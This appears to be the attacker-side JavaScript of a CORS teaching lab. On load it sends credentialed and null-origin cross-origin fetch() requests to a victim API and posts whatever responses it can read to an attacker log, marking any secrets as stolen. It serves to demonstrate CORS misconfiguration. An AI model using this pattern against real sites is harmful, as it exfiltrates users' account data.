// The attacker's page: opening it runs the attack. It asks its origin for a new round (one run
// per attempt), sends each fetch() to the victim API (the sandboxed attempt from a frame whose
// origin is null), and reports to the attacker's log exactly what the browser let it read.
(() => {
  "use strict";
  const root = document.getElementById("attacker");
  if (!root) return;
  const list = document.getElementById("attempts");
  const status = document.getElementById("attacker-status");
  const log = document.getElementById("attacker-log");
  const frames = document.getElementById("frames");
  const FRAME_TIMEOUT_MS = 15000;

  const say = (text) => { status.textContent = text; };

  // What fetch() gives this page's script, as it sees it.
  async function read(url, credentials) {
    try {
      const response = await fetch(url, { credentials });
      let body = null;
      try { body = await response.text(); } catch (e) { body = null; }
      return { outcome: "allowed", status: response.status, headers: [...response.headers], body, error: null };
    } catch (e) {
      return { outcome: "blocked", status: null, headers: [], body: null, error: `${e.name}: ${e.message}` };
    }
  }

  // The same from a sandboxed frame (allow-scripts only: an opaque origin).
  function readInFrame(attempt) {
    return new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.title = "sandboxed frame";
      const timer = window.setTimeout(() => { finish(null); }, FRAME_TIMEOUT_MS);
      function finish(result) {
        window.clearTimeout(timer);
        window.removeEventListener("message", onMessage);
        resolve(result);
      }
      function onMessage(event) {
        if (event.source !== frame.contentWindow || !event.data) return;
        if (event.data.runId !== attempt.run_id) return;
        finish(event.data.result);
      }
      window.addEventListener("message", onMessage);
      frame.src = attempt.frame;
      frames.append(frame);
    });
  }

  function entry(attempt) {
    const item = document.createElement("li");
    item.dataset.attempt = attempt.attempt;
    item.dataset.runId = attempt.run_id;
    item.dataset.state = "running";
    item.textContent = `${attempt.label}: asking…`;
    list.append(item);
    return item;
  }

  function logEntry(attempt, result, stolen) {
    const empty = log.querySelector(".empty");
    if (empty) empty.remove();
    const item = document.createElement("li");
    item.className = "entry";
    item.dataset.runId = attempt.run_id;
    item.dataset.stolen = stolen ? "yes" : "no";
    item.dataset.outcome = result.outcome;
    const meta = document.createElement("p");
    meta.className = "meta";
    meta.textContent = `${attempt.attempt} · fetch() ${result.outcome === "blocked" ? "rejected" : `resolved with ${result.status}`}${stolen ? " · stolen" : ""}`;
    item.append(meta);
    if (result.body !== null) {
      const pre = document.createElement("pre");
      pre.className = "read";
      pre.textContent = result.body;
      item.append(pre);
    } else {
      const p = document.createElement("p");
      p.className = "nothing";
      p.textContent = `Nothing readable${result.error ? `: ${result.error}` : ""}`;
      item.append(p);
    }
    log.prepend(item);
  }

  async function report(attempt, result) {
    const answer = await fetch(root.dataset.report, {
      method: "POST",
      headers: { "Content-Type": "application/json", Accept: "application/json" },
      body: JSON.stringify({ run_id: attempt.run_id, ...result }),
    });
    if (!answer.ok) return false;
    return (await answer.json()).stolen === true;
  }

  async function run() {
    let doc;
    try {
      // A round made beforehand (a room's question) runs as it is; otherwise a new one.
      const answer = root.dataset.round
        ? await fetch(root.dataset.round, { headers: { Accept: "application/json" } })
        : await fetch(root.dataset.rounds, { method: "POST", headers: { Accept: "application/json" } });
      doc = await answer.json();
      if (!answer.ok) throw new Error(doc.error ? doc.error.message : `status ${answer.status}`);
    } catch (e) {
      say(`The attack could not start (${e.message}).`);
      root.dataset.state = "failed";
      return;
    }
    root.dataset.round = String(doc.round);
    say(`Round ${doc.round}: asking the victim API…`);
    let stolen = 0;
    for (const attempt of doc.attempts) {
      const item = entry(attempt);
      const result = attempt.sandboxed ? await readInFrame(attempt) : await read(attempt.url, attempt.credentials);
      if (result === null) {
        item.dataset.state = "silent";
        item.textContent = `${attempt.label}: the frame never answered.`;
        continue;
      }
      let took = false;
      try { took = await report(attempt, result); } catch (e) { took = false; }
      if (took) stolen += 1;
      item.dataset.state = "done";
      item.dataset.outcome = result.outcome;
      item.dataset.stolen = took ? "yes" : "no";
      item.textContent = `${attempt.label}: ${result.outcome === "blocked"
        ? "the browser refused to let this script read the answer"
        : `read the answer (status ${result.status})${took ? ", with your secret in it" : ", nothing secret"}`}.`;
      logEntry(attempt, result, took);
    }
    say(stolen ? `Done: the attacker has your account (${stolen} of ${doc.attempts.length} attempts).`
      : "Done: nothing secret reached the attacker.");
    root.dataset.state = "done";
    root.dataset.stolen = String(stolen);
  }

  run();
})();
